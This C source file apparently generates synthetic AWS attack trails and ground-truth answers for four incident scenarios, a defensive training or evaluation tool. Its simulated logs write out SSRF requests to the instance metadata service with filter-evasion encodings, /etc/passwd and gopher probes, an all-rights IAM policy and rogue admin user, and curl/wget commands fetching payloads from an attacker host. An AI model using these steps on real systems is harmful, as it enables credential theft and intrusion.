/* The four stories. Each writes only what a real trail would hold, and the truth beside it. */
#include "app/scenario_parts.h"

#include "base/buf.h"
#include "base/utc.h"

#include <stdio.h>
#include <string.h>

/* NOLINTBEGIN(bugprone-suspicious-missing-comma): the first is one text on two lines */
static const char *const intruder_agents[] = {
	"aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 source/x86_64.kali.2024 prompt/off "
	"command/s3api.list-buckets",
	"Boto3/1.26.0 Python/3.10.12 Linux/5.15.0-91-generic Botocore/1.29.165",
	"python-requests/2.28.1", "S3 Browser/11.6.7 (https://s3browser.com)",
	"aws-sdk-go/1.44.332 (go1.20.7; linux; amd64) S3Manager", "rclone/v1.65.2", NULL
};
/* NOLINTEND(bugprone-suspicious-missing-comma) */

static json_t *user_arn(const struct scenario *s, const char *user)
{
	return json_sprintf("arn:aws:iam::%s:user/%s", s->world.account, user);
}

static void truth_set(struct scenario *s, const char *class, int64_t entry)
{
	char time[32];

	utc_rfc3339(entry, time);
	s->truth = json_pack("{s:s, s:s, s:I, s:s, s:s, s:[], s:[], s:[], s:[]}", "schema",
		"cordon.truth/1", "scenario", scenario_name(s->kind), "seed",
		(json_int_t)s->seed, "class", class, "entry_time", time, "source_ips",
		"access_keys", "principals", "events");
}

static void truth_add(struct scenario *s, const char *list, json_t *value_taken)
{
	json_t *items = json_object_get(s->truth, list);
	size_t i;
	json_t *have;

	json_array_foreach(items, i, have)
	{
		if (json_equal(have, value_taken)) {
			json_decref(value_taken);
			return;
		}
	}
	json_array_append_new(items, value_taken);
}

/* A call of the intruder; counted in the truth. */
static void strike(struct scenario_stage *st, int64_t *at, struct scenario_call c)
{
	c.at = *at;
	truth_add(st->s, "events", json_string(scenario_trail_add(st->trail, c)));
	*at += dice_between(&st->dice, 2, 25) * SECOND;
}

static void strike_denied(
	struct scenario_stage *st, int64_t *at, const struct scenario_who *who, int n)
{
	static const struct {
		const char *service, *name;
	} tries[] = { { "iam", "ListUsers" }, { "ec2", "DescribeInstances" },
		{ "secretsmanager", "ListSecrets" },
		{ "iam", "GetAccountAuthorizationDetails" }, { "rds", "DescribeDBInstances" },
		{ "iam", "ListAttachedRolePolicies" }, { "lambda", "ListFunctions20150331" },
		{ "ssm", "DescribeParameters" }, { "kms", "ListKeys" } };
	size_t first = (size_t)dice_between(&st->dice, 0, 8);

	for (int i = 0; i < n; i++) {
		size_t k = (first + (size_t)i) % (sizeof(tries) / sizeof(tries[0]));
		bool ec2 = strcmp(tries[k].service, "ec2") == 0;

		strike(st, at,
			(struct scenario_call){ .who = who,
				.service = tries[k].service,
				.name = tries[k].name,
				.error = ec2 ? "Client.UnauthorizedOperation" : "AccessDenied",
				.message = scenario_text(st->s,
					"User: arn:aws:%s::%s:%s/%s is not authorized to "
					"perform: %s:%s",
					who->session != NULL ? "sts" : "iam",
					st->s->world.account,
					who->session != NULL ? "assumed-role" : "user",
					who->user, tries[k].service, tries[k].name) });
	}
}

/* The files leave, one by one, every name once, in an order of the intruder's own. */
static void strike_objects(
	struct scenario_stage *st, int64_t *at, const struct scenario_who *who, int64_t n)
{
	struct scenario *s = st->s;
	size_t count = s->names.n_objects,
	       start = (size_t)dice_between(&st->dice, 0, (int64_t)count - 1);

	strike(st, at,
		(struct scenario_call){ .who = who,
			.service = "s3",
			.name = "ListObjects",
			.bucket = s->names.files_bucket,
			.request = json_pack("{s:s, s:s, s:s}", "bucketName",
				s->names.files_bucket, "list-type", "2", "prefix", "") });
	for (int64_t i = 0; i < n && i < (int64_t)count; i++) {
		const char *object = s->names.objects[(start + (size_t)i) % count];
		int64_t began = *at;

		strike(st, at,
			(struct scenario_call){ .who = who,
				.service = "s3",
				.name = "GetObject",
				.bucket = s->names.files_bucket,
				.object = object,
				.request = json_pack("{s:s, s:s}", "bucketName",
					s->names.files_bucket, "key", object) });
		*at = began +
		      dice_between(&st->dice, 300, 4000); /* faster than looking around */
	}
}

static const char *percent_encoded(struct scenario *s, const char *url)
{
	struct buf b = { 0 };
	const char *kept;

	buf_init(&b, 1024);
	for (const char *p = url; *p != '\0'; p++) {
		if (strchr(":/[]?&=", *p) != NULL) {
			buf_printf(&b, "%%%02X", (unsigned char)*p);
		} else {
			buf_putc(&b, *p);
		}
	}
	kept = arena_cstr(&s->arena, buf_view(&b));
	buf_deinit(&b);
	return kept;
}

static void ssrf(struct scenario_stage *st, int64_t at, const char *door, const char *agent)
{
	/* One address, written as people write it who want it to pass a filter. */
	static const char *const hosts[] = { "http://169.254.169.254", "http://2852039166",
		"http://0xa9fea9fe", "http://[::ffff:a9fe:a9fe]", "http://169.254.169.254:80",
		NULL };
	struct scenario *s = st->s;
	const char *host = dice_pick(&st->dice, hosts), *role = s->names.role[s->names.victim];
	const char *const paths[] = { "/latest/meta-data/",
		"/latest/meta-data/iam/security-credentials/",
		scenario_text(s, "/latest/meta-data/iam/security-credentials/%s", role) };
	const int64_t sizes[] = { 289, (int64_t)strlen(role), 1298 };
	bool encode = dice_chance(&st->dice, 55);

	for (size_t i = 0; i < 3; i++) {
		const char *url = scenario_text(s, "%s%s", host, paths[i]);

		scenario_web_request(st, s->names.victim,
			(struct scenario_request){ .at = at,
				.ip = st->intruder_ip,
				.method = "GET",
				.target = scenario_text(s, "%s%s", door,
					encode ? percent_encoded(s, url) : url),
				.agent = agent,
				.status = 200,
				.bytes = sizes[i] });
		at += dice_between(&st->dice, 3, 40) * SECOND;
	}
}

/* Looking for a door: the application's own pages with values that it did not expect. */
static void reconnoitre(
	struct scenario_stage *st, int64_t at, const char *door, const char *agent)
{
	static const char *const tries[] = { "http://example.com/", "file:///etc/passwd",
		"http://127.0.0.1:8080/", "http://localhost/server-status",
		"gopher://127.0.0.1:6379/_INFO", "https://example.org/a.png", NULL };
	static const char *const pages[] = { "/", "/login", "/projects", "/robots.txt",
		"/api/v1/projects", NULL };

	for (int64_t n = dice_between(&st->dice, 4, 16); n > 0; n--) {
		bool door_now = dice_chance(&st->dice, 50);

		scenario_web_request(st, st->s->names.victim,
			(struct scenario_request){
				.at = at - n * dice_between(&st->dice, 9, 30) * SECOND,
				.ip = st->intruder_ip,
				.method = "GET",
				.target = door_now ? scenario_text(st->s, "%s%s", door,
							     dice_pick(&st->dice, tries))
						   : dice_pick(&st->dice, pages),
				.agent = agent,
				.status = door_now && dice_chance(&st->dice, 60) ? 500 : 200,
				.bytes = dice_between(&st->dice, 300, 9000) });
	}
}

static void web_exploit(struct scenario_stage *st)
{
	static const char *const doors[] = { "/preview?src=", "/api/v1/fetch?url=",
		"/proxy?target=", "/export/pdf?template=", "/api/v1/avatar?image_url=", NULL };
	static const char *const web_agents[] = { "curl/7.88.1", "python-requests/2.31.0",
		"Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
		NULL };
	struct scenario *s = st->s;
	struct dice *d = &st->dice;
	int victim = s->names.victim;
	const char *door = dice_pick(d, doors), *agent = dice_pick(d, web_agents);
	int64_t issued = st->attack_ms - dice_between(d, 2, 45) * MINUTE, at, first;
	char key[20];
	struct scenario_who thief = st->server[victim];

	truth_set(s, "web_exploitation", st->attack_ms);
	reconnoitre(st, st->attack_ms, door, agent);
	ssrf(st, st->attack_ms, door, agent);
	/* The metadata service hands an old-style caller a session of its own. */
	dice_text(d, DICE_UPPER, 16, key);
	thief.key = scenario_trail_instance_session(
		st->trail, victim, issued, scenario_text(s, "ASIA%s", key));
	thief.since = issued;
	thief.delivery = "1.0";
	thief.ip = st->second_ip;
	thief.agent = dice_pick(d, intruder_agents);
	first = at = st->attack_ms + dice_between(d, 2, 8) * MINUTE;
	strike(st, &at,
		(struct scenario_call){
			.who = &thief, .service = "sts", .name = "GetCallerIdentity" });
	strike(st, &at,
		(struct scenario_call){
			.who = &thief, .service = "s3", .name = "ListBuckets" });
	strike_denied(st, &at, &thief, (int)dice_between(d, 2, 7));
	strike_objects(st, &at, &thief, dice_between(d, 15, 60));
	truth_add(s, "source_ips", json_string(st->intruder_ip));
	truth_add(s, "source_ips", json_string(st->second_ip));
	truth_add(s, "access_keys", json_string(thief.key));
	truth_add(s, "principals",
		json_sprintf("arn:aws:sts::%s:assumed-role/%s/%s", s->world.account, thief.user,
			thief.session));
	scenario_finding_write(st,
		(struct scenario_remark){ .type = "UnauthorizedAccess:IAMUser/"
						  "InstanceCredentialExfiltration.OutsideAWS",
			.title = "Credentials of an EC2 instance are used from an external "
				 "address.",
			.text = scenario_text(s,
				"Credentials created exclusively for an EC2 instance using "
				"instance role %s have been used from external IP address %s.",
				thief.user, thief.ip),
			.severity = 8.0,
			.role = "TARGET",
			.resource = scenario_finding_key(&thief),
			.action = json_pack("{s:s, s:{s:s, s:s, s:s, s:o, s:s}}", "actionType",
				"AWS_API_CALL", "awsApiCallAction", "api", "ListBuckets",
				"serviceName", "s3.amazonaws.com", "callerType", "Remote IP",
				"remoteIpDetails", scenario_finding_remote(st, thief.ip),
				"userAgent", thief.agent),
			.first = first,
			.last = at,
			.count = (int)dice_between(d, 1, 30) });
}

/* The thief gives himself every right: one of the ways there are. */
static const char *escalate(
	struct scenario_stage *st, int64_t *at, const struct scenario_who *who)
{
	struct scenario *s = st->s;
	bool inline_policy = dice_chance(&st->dice, 60);

	if (inline_policy) {
		strike(st, at,
			(struct scenario_call){ .who = who,
				.service = "iam",
				.name = "PutUserPolicy",
				.write = true,
				.request = json_pack("{s:s, s:s, s:s}", "userName", who->user,
					"policyName", s->names.rogue_policy, "policyDocument",
					"{\"Version\":\"2012-10-17\",\"Statement\":[{"
					"\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*"
					"\"}]}") });
		return "PutUserPolicy";
	}
	strike(st, at,
		(struct scenario_call){ .who = who,
			.service = "iam",
			.name = "AttachUserPolicy",
			.write = true,
			.request = json_pack("{s:s, s:s}", "userName", who->user, "policyArn",
				"arn:aws:iam::aws:policy/AdministratorAccess") });
	return "AttachUserPolicy";
}

static void plant_user(struct scenario_stage *st, int64_t *at, const struct scenario_who *who)
{
	struct scenario *s = st->s;
	const char *user = s->names.rogue_user;
	char time[32];

	strike(st, at,
		(struct scenario_call){ .who = who,
			.service = "iam",
			.name = "CreateUser",
			.write = true,
			.request = json_pack("{s:s}", "userName", user),
			.response = json_pack("{s:{s:s, s:s, s:s, s:o}}", "user", "path", "/",
				"userName", user, "userId", s->world.rogue_user_id, "arn",
				user_arn(s, user)) });
	strike(st, at,
		(struct scenario_call){ .who = who,
			.service = "iam",
			.name = "AttachUserPolicy",
			.write = true,
			.request = json_pack("{s:s, s:s}", "userName", user, "policyArn",
				"arn:aws:iam::aws:policy/AdministratorAccess") });
	utc_rfc3339(*at - *at % SECOND, time);
	strike(st, at,
		(struct scenario_call){ .who = who,
			.service = "iam",
			.name = "CreateAccessKey",
			.write = true,
			.request = json_pack("{s:s}", "userName", user),
			.response = json_pack("{s:{s:s, s:s, s:s, s:s}}", "accessKey",
				"userName", user, "accessKeyId", s->world.rogue_key_id,
				"status", "Active", "createDate", time) });
}

static void stolen_key(struct scenario_stage *st)
{
	static const char *const types[] = { "PrivilegeEscalation:IAMUser/AnomalousBehavior",
		"Persistence:IAMUser/AnomalousBehavior",
		"UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom", NULL };
	struct scenario *s = st->s;
	struct dice *d = &st->dice;
	struct scenario_who thief = st->key_user, second;
	int64_t at = st->attack_ms;
	const char *call, *type = dice_pick(d, types);

	truth_set(s, "leaked_access_key", at);
	thief.ip = st->intruder_ip;
	thief.agent = dice_pick(d, intruder_agents);
	strike(st, &at,
		(struct scenario_call){
			.who = &thief, .service = "sts", .name = "GetCallerIdentity" });
	strike(st, &at,
		(struct scenario_call){
			.who = &thief, .service = "s3", .name = "ListBuckets" });
	strike_denied(st, &at, &thief, (int)dice_between(d, 3, 9));
	at += dice_between(d, 1, 6) * MINUTE;
	call = escalate(st, &at, &thief);
	strike(st, &at,
		(struct scenario_call){ .who = &thief, .service = "iam", .name = "ListUsers" });
	plant_user(st, &at, &thief);
	if (dice_chance(d, 40)) {
		strike(st, &at,
			(struct scenario_call){ .who = &thief,
				.service = "cloudtrail",
				.name = "DescribeTrails" });
	}
	second = (struct scenario_who){ .user = s->names.rogue_user,
		.id = s->world.rogue_user_id,
		.key = s->world.rogue_key_id,
		.ip = st->second_ip,
		.agent = dice_pick(d, intruder_agents) };
	at += dice_between(d, 30, 200) * SECOND;
	strike(st, &at,
		(struct scenario_call){
			.who = &second, .service = "s3", .name = "ListBuckets" });
	strike_objects(st, &at, &second, dice_between(d, 10, 50));
	for (int i = 0; i < 2; i++) {
		const struct scenario_who *w = i == 0 ? &thief : &second;

		truth_add(s, "source_ips", json_string(w->ip));
		truth_add(s, "access_keys", json_string(w->key));
		truth_add(s, "principals", user_arn(s, w->user));
	}
	scenario_finding_write(st,
		(struct scenario_remark){ .type = type,
			.title = scenario_text(s,
				"The user %s called APIs in a way that is unusual for this "
				"account.",
				thief.user),
			.text = scenario_text(s,
				"APIs commonly used to gain rights or persistence were called "
				"by IAMUser %s under circumstances not seen before.",
				thief.user),
			.severity = strstr(type, "Custom") != NULL ? 5.0 : 8.0,
			.role = "TARGET",
			.resource = scenario_finding_key(&thief),
			.action = json_pack("{s:s, s:{s:s, s:s, s:s, s:o, s:s}}", "actionType",
				"AWS_API_CALL", "awsApiCallAction", "api",
				strstr(type, "Persistence") != NULL ? "CreateAccessKey" : call,
				"serviceName", "iam.amazonaws.com", "callerType", "Remote IP",
				"remoteIpDetails", scenario_finding_remote(st, thief.ip),
				"userAgent", thief.agent),
			.first = st->attack_ms,
			.last = at,
			.count = (int)dice_between(d, 1, 12) });
}

/* What is done with a shell: another account, a start-up entry, a program that calls home. */
static void after_log_in(
	struct scenario_stage *st, int64_t at, int pid, const char *user, const char *home)
{
	static const char *const accounts[] = { "sysupdate", "ubuntu2", "nobody1", "postfixd",
		NULL };
	struct scenario *s = st->s;
	struct dice *d = &st->dice;
	int v = s->names.victim;
	const char *account = dice_pick(d, accounts);

	scenario_host_auth(st, v, at + 60, "sshd", pid,
		"pam_unix(sshd:session): session opened for user %s(uid=1001) by (uid=0)",
		user);
	at += dice_between(d, 8, 60) * SECOND;
	scenario_host_auth(st, v, at, "sudo", 0,
		"  %s : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=%s", user,
		dice_chance(d, 50)
			? scenario_text(s, "/usr/bin/curl -s http://%s/x.sh -o /tmp/.x", home)
			: scenario_text(
				  s, "/usr/bin/wget -q http://%s/k -O /var/tmp/.k", home));
	at += dice_between(d, 5, 40) * SECOND;
	if (dice_chance(d, 70)) {
		scenario_host_auth(st, v, at, "useradd", 0,
			"new user: name=%s, UID=%d, GID=%d, home=/home/%s, shell=/bin/bash, "
			"from=none",
			account, 1005, 1005, account);
		at += dice_between(d, 3, 20) * SECOND;
	}
	scenario_host_auth(st, v, at, "sudo", 0,
		"  %s : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/crontab -", user);
}

static void ssh_brute_force(struct scenario_stage *st)
{
	static const char *const users[] = { "deploy", "ubuntu", "root", NULL };
	struct scenario *s = st->s;
	struct dice *d = &st->dice;
	int v = s->names.victim, pid, tries = (int)dice_between(d, 160, 620);
	bool miner = dice_chance(d, 50);
	const char *home = scenario_address(st), *user = dice_pick(d, users),
		   *own = s->world.server[v].private_ip;
	int64_t at = scenario_host_guesses(
			st, v, st->intruder_ip, st->attack_ms - (int64_t)tries * 2300, tries),
		first;

	scenario_host_auth(st, v, at + 900, "sshd", 0,
		"Failed password for %s from %s port %d ssh2", user, st->intruder_ip,
		(int)dice_between(d, 32000, 60999));
	at += dice_between(d, 2, 8) * SECOND;
	pid = scenario_host_pid(st);
	truth_set(s, "ssh_bruteforce", at);
	scenario_host_auth(st, v, at, "sshd", pid,
		"Accepted password for %s from %s port %d ssh2", user, st->intruder_ip,
		(int)dice_between(d, 32000, 60999));
	scenario_host_flow(st, v,
		(struct scenario_flow){ .at = at,
			.seconds = 590,
			.from = st->intruder_ip,
			.to = own,
			.from_port = 50022,
			.to_port = 22,
			.packets = 1900,
			.bytes = 240000 });
	after_log_in(st, at, pid, user, home);
	first = at + dice_between(d, 2, 5) * MINUTE;
	for (at = first; at < s->now_ms - 4 * MINUTE; at += dice_between(d, 55, 65) * SECOND) {
		scenario_host_flow(st, v,
			(struct scenario_flow){ .at = at,
				.seconds = 60,
				.from = own,
				.to = home,
				.from_port = 41822,
				.to_port = miner ? 3333 : 4444,
				.packets = dice_between(d, 20, 44),
				.bytes = dice_between(d, 2100, 5200) });
	}
	truth_add(s, "source_ips", json_string(st->intruder_ip));
	scenario_finding_write(st,
		(struct scenario_remark){ .type = miner ? "CryptoCurrency:EC2/BitcoinTool.B"
							: "Backdoor:EC2/C&CActivity.B",
			.title = miner ? "Bitcoin-related activity of an EC2 instance."
				       : "Command and control activity of an EC2 instance.",
			.text = scenario_text(s,
				"EC2 instance %s is communicating with IP address %s, which is "
				"%s.",
				s->world.server[v].instance_id, home,
				miner ? "associated with Bitcoin-related activity"
				      : "a known command and control server"),
			.severity = 8.0,
			.role = "ACTOR",
			.resource = scenario_finding_instance(st, v),
			.action = json_pack(
				"{s:s, s:{s:s, s:s, s:b, s:o, s:{s:i, s:s}, s:{s:i, s:s}}}",
				"actionType", "NETWORK_CONNECTION", "networkConnectionAction",
				"connectionDirection", "OUTBOUND", "protocol", "TCP", "blocked",
				0, "remoteIpDetails", scenario_finding_remote(st, home),
				"remotePortDetails", "port", miner ? 3333 : 4444, "portName",
				"Unknown", "localPortDetails", "port", 41822, "portName",
				"Unknown"),
			.first = first,
			.last = at,
			.count = (int)dice_between(d, 1, 9) });
}

static void false_alarm(struct scenario_stage *st)
{
	struct scenario *s = st->s;
	struct dice *d = &st->dice;
	int v = s->names.victim, tries = (int)dice_between(d, 60, 380);
	bool probe = dice_chance(d, 40);
	int64_t first = st->attack_ms, last;
	json_t *remote;

	last = scenario_host_guesses(st, v, st->intruder_ip, first, tries);
	truth_set(s, "no_incident", first);
	remote = scenario_finding_remote(st, st->intruder_ip);
	scenario_finding_write(st,
		(struct scenario_remark){
			.type = probe ? "Recon:EC2/PortProbeUnprotectedPort"
				      : "UnauthorizedAccess:EC2/SSHBruteForce",
			.title = probe ? "An unprotected port of an EC2 instance is being "
					 "probed."
				       : "An EC2 instance is the target of SSH brute force "
					 "attempts.",
			.text = scenario_text(s, "%s %s EC2 instance %s.", st->intruder_ip,
				probe ? "probed port 22 of"
				      : "is performing SSH brute force attacks against",
				s->world.server[v].instance_id),
			.severity = 2.0,
			.role = "TARGET",
			.resource = scenario_finding_instance(st, v),
			.action = probe ? json_pack("{s:s, s:{s:b, s:[{s:{s:i, s:s}, s:o}]}}",
						  "actionType", "PORT_PROBE", "portProbeAction",
						  "blocked", 0, "portProbeDetails",
						  "localPortDetails", "port", 22, "portName",
						  "SSH", "remoteIpDetails", remote)
					: json_pack("{s:s, s:{s:s, s:s, s:b, s:o, s:{s:i, "
						    "s:s}, s:{s:i, s:s}}}",
						  "actionType", "NETWORK_CONNECTION",
						  "networkConnectionAction",
						  "connectionDirection", "INBOUND", "protocol",
						  "TCP", "blocked", 0, "remoteIpDetails",
						  remote, "localPortDetails", "port", 22,
						  "portName", "SSH", "remotePortDetails",
						  "port", 40122, "portName", "Unknown"),
			.first = first,
			.last = last,
			.count = tries });
}

void scenario_attack_write(struct scenario_stage *st)
{
	switch (st->s->kind) {
	case SCENARIO_WEB_EXPLOIT:
		web_exploit(st);
		break;
	case SCENARIO_STOLEN_KEY:
		stolen_key(st);
		break;
	case SCENARIO_SSH_BRUTE_FORCE:
		ssh_brute_force(st);
		break;
	case SCENARIO_FALSE_ALARM:
		false_alarm(st);
		break;
	}
}
